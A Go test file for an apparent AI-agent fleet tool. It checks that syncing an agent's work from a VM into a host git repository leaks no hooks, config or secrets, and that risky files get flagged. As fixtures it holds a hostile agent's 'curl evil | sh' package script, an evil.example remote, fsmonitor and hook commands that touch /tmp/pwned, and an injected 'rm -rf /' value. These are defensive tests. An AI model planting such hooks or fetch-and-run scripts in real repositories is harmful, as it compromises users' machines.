package workspace

import (
	"bytes"
	"context"
	"crypto/rand"
	"crypto/sha256"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/agentfleet/agentfleet/internal/execx"
)

func run(t *testing.T, dir string, stdin io.Reader, name string, args ...string) string {
	t.Helper()
	cmd := exec.Command(name, args...)
	cmd.Dir, cmd.Stdin = dir, stdin
	cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@t", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@t")
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("%s %v: %v\n%s", name, args, err, out)
	}
	return string(out)
}

func write(t *testing.T, path, body string) {
	t.Helper()
	os.MkdirAll(filepath.Dir(path), 0o755)
	if err := os.WriteFile(path, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
}

// fingerprint digests everything collect promises not to touch: the
// working tree, the index, HEAD, config and hooks.
func fingerprint(t *testing.T, repo string) string {
	t.Helper()
	h := sha256.New()
	filepath.Walk(repo, func(p string, fi os.FileInfo, err error) error {
		rel, _ := filepath.Rel(repo, p)
		if err != nil || fi.IsDir() {
			return nil
		}
		if strings.HasPrefix(rel, ".git/") && rel != ".git/index" && rel != ".git/HEAD" && rel != ".git/config" && !strings.HasPrefix(rel, ".git/hooks/") {
			return nil
		}
		b, _ := os.ReadFile(p)
		fmt.Fprintf(h, "%s %o %x\n", rel, fi.Mode(), sha256.Sum256(b))
		return nil
	})
	return fmt.Sprintf("%x", h.Sum(nil))
}

// hostRepo is a user's repository: a commit, a hook and config of its
// own, an uncommitted edit, an untracked file and an ignored one.
func hostRepo(t *testing.T) string {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git not installed")
	}
	dir := t.TempDir()
	run(t, dir, nil, "git", "init", "-q", "-b", "main")
	write(t, filepath.Join(dir, "main.go"), "package main\n")
	write(t, filepath.Join(dir, ".gitignore"), "secret.env\n")
	write(t, filepath.Join(dir, "package.json"), `{"name":"x","scripts":{"test":"go test"}}`)
	run(t, dir, nil, "git", "add", "-A")
	run(t, dir, nil, "git", "commit", "-q", "-m", "first")
	write(t, filepath.Join(dir, ".git", "hooks", "pre-commit"), "#!/bin/sh\necho host hook\n")
	run(t, dir, nil, "git", "config", "host.only", "yes")
	write(t, filepath.Join(dir, "main.go"), "package main // edited\n")
	write(t, filepath.Join(dir, "notes.txt"), "untracked\n")
	write(t, filepath.Join(dir, "secret.env"), "TOKEN=1\n")
	return dir
}

// syncIn plays the VM side locally: the guest scripts run under sh in
// a folder standing in for /workspace.
func syncIn(t *testing.T, g Repo, guest string) (base, start string) {
	t.Helper()
	ctx := context.Background()
	base, start, err := g.Snapshot(ctx)
	if err != nil {
		t.Fatal(err)
	}
	var pack bytes.Buffer
	if err := g.Pack(ctx, start, &pack); err != nil {
		t.Fatal(err)
	}
	run(t, guest, &pack, "sh", "-c", UnpackScript(guest, "fleet/vm-1", start, "vm-1"))
	return base, start
}

func collect(t *testing.T, g Repo, guest, start string, limit int64) (GuestState, error) {
	t.Helper()
	st, err := ParseState([]byte(run(t, guest, nil, "sh", "-c", StateScript(guest, "vm-1", true))))
	if err != nil {
		t.Fatal(err)
	}
	pack := exec.Command("sh", "-c", PackScript(guest, st.Tip, start))
	out, _ := pack.StdoutPipe()
	pack.Start()
	ierr := g.Import(context.Background(), out, limit)
	io.Copy(io.Discard, out)
	pack.Wait()
	return st, ierr
}

func TestSnapshotCarriesWhatTheUserSeesAndLeavesTheRepoAlone(t *testing.T) {
	host := hostRepo(t)
	before := fingerprint(t, host)
	g := Repo{Runner: execx.Local{}, Dir: host}
	guest := t.TempDir()
	base, start := syncIn(t, g, guest)
	if base == start || !IsObjectID(start) {
		t.Fatalf("uncommitted changes must make a snapshot commit: base %s start %s", base, start)
	}
	if fingerprint(t, host) != before {
		t.Fatal("spawn's snapshot changed the host's tree, index, HEAD, config or hooks")
	}
	if b, _ := os.ReadFile(filepath.Join(guest, "main.go")); string(b) != "package main // edited\n" {
		t.Errorf("uncommitted edit missing in the VM: %q", b)
	}
	if _, err := os.Stat(filepath.Join(guest, "notes.txt")); err != nil {
		t.Error("untracked file missing in the VM")
	}
	if _, err := os.Stat(filepath.Join(guest, "secret.env")); err == nil {
		t.Error("an ignored file went into the VM")
	}
	if _, err := os.Stat(filepath.Join(guest, ".git", "hooks", "pre-commit")); err == nil {
		t.Error("the host's hook went into the VM")
	}
	if strings.Contains(run(t, guest, nil, "git", "config", "--list", "--local"), "host.only") {
		t.Error("the host's config went into the VM")
	}
	if b := strings.TrimSpace(run(t, guest, nil, "git", "symbolic-ref", "--short", "HEAD")); b != "fleet/vm-1" {
		t.Errorf("VM branch %s", b)
	}
	// A clean tree starts from HEAD itself.
	clean := hostRepo(t)
	run(t, clean, nil, "git", "checkout", "-q", "--", ".")
	os.Remove(filepath.Join(clean, "notes.txt"))
	b2, s2, err := Repo{Runner: execx.Local{}, Dir: clean}.Snapshot(context.Background())
	if err != nil || b2 != s2 {
		t.Fatalf("clean tree: base %s start %s %v", b2, s2, err)
	}
}

func TestCollectBringsCommitsAndUncommittedWorkAndFlagsRiskyPaths(t *testing.T) {
	host := hostRepo(t)
	g := Repo{Runner: execx.Local{}, Dir: host}
	guest := t.TempDir()
	_, start := syncIn(t, g, guest)
	before := fingerprint(t, host)

	// The agent commits, leaves an edit uncommitted, and turns hostile:
	// its own remote, hooksPath, fsmonitor and hook, and a CI workflow.
	write(t, filepath.Join(guest, "feature.go"), "package main\n")
	write(t, filepath.Join(guest, ".github", "workflows", "ci.yml"), "on: push\n")
	write(t, filepath.Join(guest, "package.json"), `{"name":"x","scripts":{"test":"curl evil | sh"}}`)
	run(t, guest, nil, "git", "add", "-A")
	run(t, guest, nil, "git", "commit", "-q", "-m", "agent work")
	run(t, guest, nil, "git", "remote", "add", "evil", "https://evil.example/x.git")
	run(t, guest, nil, "git", "config", "core.hooksPath", "/tmp/evil-hooks")
	run(t, guest, nil, "git", "config", "core.fsmonitor", "touch /tmp/pwned")
	write(t, filepath.Join(guest, ".git", "hooks", "post-merge"), "#!/bin/sh\ntouch /tmp/pwned\n")
	write(t, filepath.Join(guest, "wip.txt"), "not committed\n")

	st, err := collect(t, g, guest, start, 64<<20)
	if err != nil {
		t.Fatal(err)
	}
	if st.Tip == st.Head {
		t.Fatal("the uncommitted edit must become its own commit")
	}
	if !g.IsCommit(context.Background(), st.Tip) {
		t.Fatal("tip not imported")
	}
	if err := g.SetBranch(context.Background(), "fleet/vm-1", st.Tip); err != nil {
		t.Fatal(err)
	}
	commits, files, flagged, err := g.Summarize(context.Background(), start, "fleet/vm-1")
	if err != nil {
		t.Fatal(err)
	}
	if commits != 2 {
		t.Errorf("commits = %d, want 2 (agent's + uncommitted work)", commits)
	}
	if strings.Join(files, " ") != ".github/workflows/ci.yml feature.go package.json wip.txt" {
		t.Errorf("files = %v", files)
	}
	if strings.Join(flagged, " ") != ".github/workflows/ci.yml package.json" {
		t.Errorf("flagged = %v", flagged)
	}
	if fingerprint(t, host) != before {
		t.Fatal("collect changed the host's tree, index, HEAD, config or hooks")
	}
	cfg := run(t, host, nil, "git", "config", "--list", "--local")
	if strings.Contains(cfg, "evil") || strings.Contains(cfg, "fsmonitor") || strings.Contains(cfg, "hooksPath") {
		t.Fatalf("VM config reached the host:\n%s", cfg)
	}
	if _, err := os.Stat(filepath.Join(host, ".git", "hooks", "post-merge")); err == nil {
		t.Fatal("VM hook reached the host")
	}
	refs := run(t, host, nil, "git", "for-each-ref", "--format=%(refname)")
	if strings.TrimSpace(refs) != "refs/heads/fleet/vm-1\nrefs/heads/main" {
		t.Errorf("host refs:\n%s", refs)
	}
	// The agent's branch in the VM did not move: its edit stays uncommitted there.
	if h := strings.TrimSpace(run(t, guest, nil, "git", "rev-parse", "HEAD")); h != st.Head {
		t.Error("collect moved the VM's branch")
	}
	// Nothing new: the same tree is reported again.
	st2, _ := ParseState([]byte(run(t, guest, nil, "sh", "-c", StateScript(guest, "vm-1", false))))
	if st2.Tree != st.Tree || st2.Head != st.Head {
		t.Errorf("state changed without work: %+v vs %+v", st2, st)
	}
}

func TestImportStopsAtTheSizeLimit(t *testing.T) {
	host := hostRepo(t)
	g := Repo{Runner: execx.Local{}, Dir: host}
	guest := t.TempDir()
	_, start := syncIn(t, g, guest)
	big := make([]byte, 4<<20)
	rand.Read(big) // incompressible
	os.WriteFile(filepath.Join(guest, "huge.bin"), big, 0o644)
	run(t, guest, nil, "git", "add", "-A")
	run(t, guest, nil, "git", "commit", "-q", "-m", "huge")
	st, err := collect(t, g, guest, start, 1<<20)
	if !errors.Is(err, ErrTooLarge) {
		t.Fatalf("want ErrTooLarge, got %v", err)
	}
	if g.IsCommit(context.Background(), st.Tip) {
		t.Fatal("a refused pack's objects were stored")
	}
}

func TestSetBranchRefusesTheCheckedOutBranch(t *testing.T) {
	host := hostRepo(t)
	g := Repo{Runner: execx.Local{}, Dir: host}
	head := g.Head(context.Background())
	if err := g.SetBranch(context.Background(), "main", head); err == nil || !strings.Contains(err.Error(), "checked out") {
		t.Fatalf("got %v", err)
	}
}

func TestParseStateRefusesAnythingButObjectNames(t *testing.T) {
	good := strings.Repeat("a", 40)
	if _, err := ParseState([]byte("head=" + good + "\ntree=" + good + "\ntip=" + good + "\n")); err != nil {
		t.Fatal(err)
	}
	for _, bad := range []string{
		"head=\ntree=\ntip=\n",
		"head=HEAD\ntree=" + good + "\ntip=" + good,
		"tree=" + good + "\ntip=refs/heads/../../config",
		"tree=" + good + "; rm -rf /\n",
	} {
		if _, err := ParseState([]byte(bad)); err == nil {
			t.Errorf("accepted %q", bad)
		}
	}
}

func TestPackageScriptsDiffer(t *testing.T) {
	same := `{"scripts":{"test":"go test"},"version":"1"}`
	if PackageScriptsDiffer([]byte(same), []byte(`{"version":"2","scripts":{"test":"go test"}}`)) {
		t.Error("a version bump is not a scripts change")
	}
	if !PackageScriptsDiffer([]byte(same), []byte(`{"scripts":{"test":"go test","postinstall":"sh x"}}`)) {
		t.Error("a new script must be flagged")
	}
	if !PackageScriptsDiffer(nil, []byte(`{"scripts":{"x":"y"}}`)) || !PackageScriptsDiffer([]byte(same), []byte("{not json")) {
		t.Error("new or unreadable package.json with scripts must be flagged")
	}
}
